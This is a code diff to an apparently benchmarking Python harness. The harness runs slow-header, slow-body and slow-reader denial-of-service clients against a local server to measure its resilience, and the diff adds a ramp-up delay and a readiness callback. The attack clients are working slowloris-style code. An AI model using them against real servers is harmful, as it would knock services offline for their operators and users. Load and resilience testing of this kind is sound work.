@@ -11,7 +11,7 @@ import resource
 import subprocess
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Awaitable, Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import asdict, dataclass, field
 
@@ -22,9 +22,18 @@ ADDRESS = "127.0.0.1"
 """Where they come from: not where honest clients of the comparison do."""
 PAUSE = 0.5
 """Seconds between two bytes of one client."""
+RAMP = 100.0
+"""How many come in a second, at first: an attack that lasts is measured, not how it begins."""
 _HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
 _SMALL = 4096
 """Bytes of a receive buffer: what does not fit waits in the server."""
+
+
+Stream = asyncio.StreamReader
+Writer = asyncio.StreamWriter
+Begun = Callable[[], None]
+"""To be called when the client has begun to hold its connection."""
+Kind = Callable[[Stream, Writer, Begun], Awaitable[None]]
 
 
 @dataclass(slots=True)
@@ -74,47 +83,51 @@ class _Attackers:
         self._port = port
         self._path = path
         self._attack = attack
-        self._connected = 0
-        self.all_connected = asyncio.Event()
+        self._begun = 0
+        self.all_have_begun = asyncio.Event()
 
     def start(self, group: asyncio.TaskGroup) -> list[asyncio.Task[None]]:
-        kinds = [self._send_head] * self._attack.heads
+        kinds: list[Kind] = [self._send_head] * self._attack.heads
         kinds += [self._send_body] * self._attack.bodies
         kinds += [self._read] * self._attack.readers
-        return [group.create_task(self._again_and_again(kind)) for kind in kinds]
+        return [
+            group.create_task(self._again_and_again(kind, number / RAMP))
+            for number, kind in enumerate(kinds)
+        ]
 
-    async def _again_and_again(self, kind: object) -> None:
-        assert callable(kind)
+    async def _again_and_again(self, kind: Kind, delay: float) -> None:
+        await asyncio.sleep(delay)
         first = True
         while True:
             stream, writer = await asyncio.open_connection(
                 "127.0.0.1", self._port, limit=_SMALL, local_addr=(ADDRESS, 0)
             )
             self._attack.held += 1
-            if first:
-                first = False
-                self._connected += 1
-                if self._connected == self._attack.clients:
-                    self.all_connected.set()
             try:
-                await kind(stream, writer)
-            except OSError:
+                await kind(stream, writer, self._begin if first else lambda: None)
+            except (OSError, EOFError):
                 self._note("broken")
             finally:
                 self._attack.held -= 1
                 writer.transport.abort()
+            first = False
 
-    async def _send_head(self, stream: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    def _begin(self) -> None:
+        self._begun += 1
+        if self._begun == self._attack.clients:
+            self.all_have_begun.set()
+
+    async def _send_head(self, stream: Stream, writer: Writer, begun: Begun) -> None:
+        begun()
         await self._send(stream, writer, _HEAD)
 
-    async def _send_body(self, stream: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    async def _send_body(self, stream: Stream, writer: Writer, begun: Begun) -> None:
+        begun()
         head = b"POST /attack HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"
         writer.write(head + b" " * 50_000)
         await self._send(stream, writer, b"")
 
-    async def _send(
-        self, stream: asyncio.StreamReader, writer: asyncio.StreamWriter, data: bytes
-    ) -> None:
+    async def _send(self, stream: Stream, writer: Writer, data: bytes) -> None:
         """Send ``data`` and then more without an end, until there is an answer."""
         answered = asyncio.create_task(stream.read())
         try:
@@ -127,8 +140,10 @@ class _Attackers:
         finally:
             answered.cancel()
 
-    async def _read(self, stream: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    async def _read(self, stream: Stream, writer: Writer, begun: Begun) -> None:
         writer.write(f"GET {self._path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
+        await stream.readexactly(1)
+        begun()
         while await stream.read(1):
             self._attack.bytes += 1
             await asyncio.sleep(PAUSE)
@@ -142,7 +157,7 @@ async def _attack(port: int, path: str, attack: Attack) -> None:
     attackers = _Attackers(port, path, attack)
     async with asyncio.TaskGroup() as group:
         tasks = attackers.start(group)
-        await attackers.all_connected.wait()
+        await attackers.all_have_begun.wait()
         print("attacking", flush=True)
         await asyncio.to_thread(sys.stdin.read)
         told = json.dumps(asdict(attack))
